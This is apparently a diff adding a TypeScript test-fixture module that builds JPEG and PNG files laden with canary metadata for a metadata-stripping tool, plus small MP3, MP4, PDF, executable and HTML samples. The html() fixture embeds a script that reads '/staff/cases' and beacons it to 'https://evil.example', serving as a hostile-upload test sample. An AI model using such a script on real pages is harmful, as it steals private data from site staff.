@@ -1,0 +1,238 @@
+/**
+ * Real files, built byte by byte for the tests: a decodable 8×8 baseline JPEG
+ * carrying EXIF with a GPS position (and XMP, IPTC, comments, a thumbnail and a
+ * trailer), a 2×2 PNG with every kind of text and EXIF chunk, and small MP3,
+ * MP4, PDF, HTML and program files. No tool or binary fixture is needed.
+ */
+import { deflateSync } from "node:zlib";
+import { crc32 } from "./strip.js";
+
+const text = (s: string) => new Uint8Array(Buffer.from(s, "latin1"));
+export const bytesOf = (...parts: (Uint8Array | number[] | string)[]) =>
+  new Uint8Array(Buffer.concat(parts.map((p) => (typeof p === "string" ? text(p) : Uint8Array.from(p)))));
+const u16be = (n: number) => [(n >> 8) & 0xff, n & 0xff];
+const u32be = (n: number) => [(n >>> 24) & 0xff, (n >>> 16) & 0xff, (n >>> 8) & 0xff, n & 0xff];
+
+/** Canary values: none may survive stripping. */
+export const CANARY = {
+  make: "CanaryCam",
+  model: "Canary Phone 9",
+  // 39°05'43.21"N 94°34'87.65"W as EXIF rationals, little-endian.
+  latitude: [39, 1, 5, 1, 4321, 100],
+  longitude: [94, 1, 34, 1, 8765, 100],
+  xmp: "canary-xmp-creator Jane Canary",
+  iptc: "Canary Byline",
+  comment: "canary comment: taken by J. Canary",
+  thumbnail: [0xca, 0x4a, 0x17, 0xca, 0x4a, 0x17, 0xca, 0x4a, 0x17],
+  trailer: "canary trailer: second image with its own Exif",
+  pngText: "Canary Person",
+  pngZtxt: "canary ztxt GPS 39.0953 -94.5743",
+  pngItxt: "canary itxt xmp",
+  privateChunk: "canary private chunk",
+};
+
+/** The rationals as they appear in the file (8 bytes each, little-endian). */
+export function rationalBytes(values: number[]): Uint8Array {
+  const out = Buffer.alloc(values.length * 4);
+  values.forEach((v, i) => out.writeUInt32LE(v, i * 4));
+  return new Uint8Array(out);
+}
+
+/**
+ * A little-endian TIFF/EXIF block: IFD0 with Make, Model, Orientation and a
+ * pointer to a GPS IFD holding latitude and longitude.
+ */
+export function exifTiff(orientation = 6): Uint8Array {
+  const make = `${CANARY.make}\0`;
+  const model = `${CANARY.model}\0`;
+  const ifd0 = 8;
+  const ifd0Count = 4;
+  const gps = ifd0 + 2 + ifd0Count * 12 + 4;
+  const gpsCount = 4;
+  const dataAt = gps + 2 + gpsCount * 12 + 4;
+  const makeAt = dataAt;
+  const modelAt = makeAt + make.length;
+  const latAt = modelAt + model.length;
+  const lonAt = latAt + 24;
+  const size = lonAt + 24;
+  const b = Buffer.alloc(size);
+  b.write("II", 0, "latin1");
+  b.writeUInt16LE(42, 2);
+  b.writeUInt32LE(ifd0, 4);
+  const entry = (at: number, tag: number, type: number, count: number, value: number | string) => {
+    b.writeUInt16LE(tag, at);
+    b.writeUInt16LE(type, at + 2);
+    b.writeUInt32LE(count, at + 4);
+    if (typeof value === "string") b.write(value, at + 8, "latin1");
+    else if (type === 3) b.writeUInt16LE(value, at + 8);
+    else b.writeUInt32LE(value, at + 8);
+  };
+  b.writeUInt16LE(ifd0Count, ifd0);
+  entry(ifd0 + 2, 0x010f, 2, make.length, makeAt);
+  entry(ifd0 + 14, 0x0110, 2, model.length, modelAt);
+  entry(ifd0 + 26, 0x0112, 3, 1, orientation);
+  entry(ifd0 + 38, 0x8825, 4, 1, gps);
+  b.writeUInt32LE(0, ifd0 + 50);
+  b.writeUInt16LE(gpsCount, gps);
+  entry(gps + 2, 0x0001, 2, 2, "N\0");
+  entry(gps + 14, 0x0002, 5, 3, latAt);
+  entry(gps + 26, 0x0003, 2, 2, "W\0");
+  entry(gps + 38, 0x0004, 5, 3, lonAt);
+  b.writeUInt32LE(0, gps + 50);
+  b.write(make, makeAt, "latin1");
+  b.write(model, modelAt, "latin1");
+  Buffer.from(rationalBytes(CANARY.latitude)).copy(b, latAt);
+  Buffer.from(rationalBytes(CANARY.longitude)).copy(b, lonAt);
+  return new Uint8Array(b);
+}
+
+const segment = (marker: number, payload: Uint8Array | number[] | string) => {
+  const body = bytesOf(payload);
+  return bytesOf([0xff, marker, ...u16be(body.length + 2)], body);
+};
+
+/** The image itself: 8×8 grey, every sample mid-grey. DQT, SOF0, two one-code Huffman tables, one scan. */
+function jpegImageSegments(): Uint8Array {
+  const dqt = segment(0xdb, [0x00, ...new Array(64).fill(1)]);
+  const sof0 = segment(0xc0, [8, ...u16be(8), ...u16be(8), 1, 1, 0x11, 0]);
+  const oneCode = (tableClassAndId: number) => segment(0xc4, [tableClassAndId, 1, ...new Array(15).fill(0), 0x00]);
+  const sos = segment(0xda, [1, 1, 0x00, 0, 63, 0]);
+  // DC difference 0 (code "0"), then end-of-block (code "0"); padded with ones.
+  return bytesOf(dqt, sof0, oneCode(0x00), oneCode(0x10), sos, [0x3f]);
+}
+
+/** A plain JPEG: SOI, JFIF, the image, EOI. */
+export function plainJpeg(): Uint8Array {
+  return bytesOf([0xff, 0xd8], segment(0xe0, bytesOf("JFIF\0", [1, 1, 0, 0, 1, 0, 1, 0, 0])), jpegImageSegments(), [0xff, 0xd9]);
+}
+
+/** The smallest well-formed ICC profile: a 128-byte header (grey display profile) and no tags. */
+export function iccProfile(): Uint8Array {
+  const b = Buffer.alloc(132);
+  b.writeUInt32BE(132, 0);
+  b.writeUInt32BE(0x04300000, 8);
+  b.write("mntrGRAYXYZ ", 12, "latin1");
+  b.write("acsp", 36, "latin1");
+  return new Uint8Array(b);
+}
+
+/** A JPEG as a phone or an editor leaves it: every kind of metadata, around a decodable image. */
+export function jpegWithMetadata(options: { orientation?: number } = {}): Uint8Array {
+  const jfif = segment(0xe0, bytesOf("JFIF\0", [1, 2, 1, 0, 72, 0, 72, 1, 3], CANARY.thumbnail.slice(0, 9)));
+  const jfxx = segment(0xe0, bytesOf("JFXX\0", [0x13, 1, 1], CANARY.thumbnail.slice(0, 3)));
+  const exif = segment(0xe1, bytesOf("Exif\0\0", exifTiff(options.orientation ?? 6)));
+  const xmp = segment(0xe1, bytesOf("http://ns.adobe.com/xap/1.0/\0", `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:Description exif:GPSLatitude="39,5.72N" dc:creator="${CANARY.xmp}"/></x:xmpmeta>`));
+  const icc = segment(0xe2, bytesOf("ICC_PROFILE\0", [1, 1], iccProfile()));
+  const mpf = segment(0xe2, bytesOf("MPF\0", "MM\0*\0\0\0\x08 canary-mpf"));
+  const photoshop = segment(0xed, bytesOf("Photoshop 3.0\0", "8BIM\x04\x04\0\0\0\0\0\x12\x1c\x02\x50\0\x0d", CANARY.iptc));
+  const adobe = segment(0xee, bytesOf("Adobe", [0, 100, 0, 0, 0, 0, 1]));
+  const app15 = segment(0xef, "canary app15");
+  const com = segment(0xfe, CANARY.comment);
+  return bytesOf([0xff, 0xd8], jfif, jfxx, exif, xmp, icc, mpf, photoshop, adobe, app15, com, jpegImageSegments(), [0xff, 0xd9], CANARY.trailer);
+}
+
+/** Markers of a JPEG, walked independently of the stripper: each segment's length must fit, and EOI must be the last two bytes. */
+export function jpegMarkers(bytes: Uint8Array): { marker: number; payload: Uint8Array }[] {
+  if (bytes[0] !== 0xff || bytes[1] !== 0xd8) throw new Error("no SOI");
+  const found: { marker: number; payload: Uint8Array }[] = [{ marker: 0xd8, payload: new Uint8Array() }];
+  let at = 2;
+  while (at < bytes.length) {
+    if (bytes[at] !== 0xff) throw new Error(`no marker at ${at}`);
+    const marker = bytes[at + 1];
+    if (marker === 0xd9) {
+      found.push({ marker, payload: new Uint8Array() });
+      if (at + 2 !== bytes.length) throw new Error(`${bytes.length - at - 2} bytes after EOI`);
+      return found;
+    }
+    const length = (bytes[at + 2] << 8) | bytes[at + 3];
+    if (length < 2 || at + 2 + length > bytes.length) throw new Error(`segment ${marker.toString(16)} at ${at} overruns`);
+    found.push({ marker, payload: bytes.subarray(at + 4, at + 2 + length) });
+    at += 2 + length;
+    if (marker === 0xda) {
+      while (at < bytes.length && !(bytes[at] === 0xff && bytes[at + 1] !== 0 && !(bytes[at + 1] >= 0xd0 && bytes[at + 1] <= 0xd7))) at += 1;
+    }
+  }
+  throw new Error("no EOI");
+}
+
+// ---------------------------------------------------------------- PNG
+
+const chunk = (type: string, data: Uint8Array | number[] | string) => {
+  const body = bytesOf(data);
+  const typed = bytesOf(type, body);
+  return bytesOf(u32be(body.length), typed, u32be(crc32(typed)));
+};
+
+/** The pixels of the test PNG: 2×2 RGB, red, green / blue, white. */
+export const PNG_PIXELS = [[255, 0, 0, 0, 255, 0], [0, 0, 255, 255, 255, 255]];
+
+/** A 2×2 RGB PNG with tEXt, zTXt, iTXt, eXIf (GPS), tIME, a private chunk and a trailer; gAMA and pHYs are kept. */
+export function pngWithMetadata(): Uint8Array {
+  const ihdr = chunk("IHDR", [...u32be(2), ...u32be(2), 8, 2, 0, 0, 0]);
+  const raw = bytesOf(...PNG_PIXELS.map((row) => [0, ...row]));
+  const idat = deflateSync(raw);
+  const half = Math.floor(idat.length / 2);
+  return bytesOf(
+    [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a],
+    ihdr,
+    chunk("gAMA", u32be(45455)),
+    chunk("tEXt", bytesOf("Author\0", CANARY.pngText)),
+    chunk("zTXt", bytesOf("Comment\0", [0], deflateSync(Buffer.from(CANARY.pngZtxt)))),
+    chunk("iTXt", bytesOf("XML:com.adobe.xmp\0", [0, 0], "\0\0", CANARY.pngItxt)),
+    chunk("eXIf", exifTiff(1)),
+    chunk("pHYs", [...u32be(2835), ...u32be(2835), 1]),
+    chunk("tIME", [...u16be(2024), 5, 17, 14, 30, 0]),
+    chunk("IDAT", idat.subarray(0, half)),
+    chunk("IDAT", idat.subarray(half)),
+    chunk("prVt", CANARY.privateChunk),
+    chunk("tEXt", bytesOf("Comment\0", "after the image data ", CANARY.pngText)),
+    chunk("IEND", []),
+    CANARY.trailer,
+  );
+}
+
+/** Chunks of a PNG, walked independently of the stripper, with each CRC checked. */
+export function pngChunks(bytes: Uint8Array): { type: string; data: Uint8Array; crcOk: boolean }[] {
+  const found: { type: string; data: Uint8Array; crcOk: boolean }[] = [];
+  const view = Buffer.from(bytes.buffer, bytes.byteOffset, bytes.byteLength);
+  let at = 8;
+  while (at < bytes.length) {
+    const length = view.readUInt32BE(at);
+    const type = view.toString("latin1", at + 4, at + 8);
+    const data = bytes.subarray(at + 8, at + 8 + length);
+    found.push({ type, data, crcOk: crc32(bytes.subarray(at + 4, at + 8 + length)) === view.readUInt32BE(at + 8 + length) });
+    at += 12 + length;
+    if (type === "IEND") {
+      if (at !== bytes.length) throw new Error(`${bytes.length - at} bytes after IEND`);
+      break;
+    }
+  }
+  return found;
+}
+
+// ---------------------------------------------------------------- other files
+
+/** Two MPEG-1 layer III frames (128 kbit/s, 44.1 kHz, 417 bytes each) after an ID3v2.4 tag. */
+export function mp3(): Uint8Array {
+  const frame = bytesOf([0xff, 0xfb, 0x90, 0x00], new Array(413).fill(0));
+  const tagBody = bytesOf("TIT2", [0, 0, 0, 6, 0, 0, 3], "Title");
+  const tag = bytesOf("ID3", [4, 0, 0, 0, 0, 0, tagBody.length], tagBody);
+  return bytesOf(tag, frame, frame);
+}
+
+/** An `ftyp` box (isom) and an empty `mdat`. */
+export function mp4(brand = "isom"): Uint8Array {
+  return bytesOf(u32be(24), "ftyp", brand, u32be(0x200), brand, "mp41", u32be(8), "mdat");
+}
+
+export function pdf(extra = ""): Uint8Array {
+  return bytesOf(`%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n${extra}trailer << /Root 1 0 R >>\n%%EOF\n`);
+}
+
+export const html = () => bytesOf("<!DOCTYPE html><html><body><script>fetch('/staff/cases').then(r=>r.text()).then(t=>navigator.sendBeacon('https://evil.example',t))</script></body></html>");
+export const exe = () => bytesOf("MZ", [0x90, 0x00, 0x03, 0, 0, 0, 0x04, 0, 0, 0, 0xff, 0xff], new Array(50).fill(0), "PE\0\0");
+
+/** Whether `needle` occurs anywhere in `haystack`. */
+export function contains(haystack: Uint8Array, needle: Uint8Array | string): boolean {
+  return Buffer.from(haystack.buffer, haystack.byteOffset, haystack.byteLength).includes(typeof needle === "string" ? Buffer.from(needle, "latin1") : Buffer.from(needle));
+}
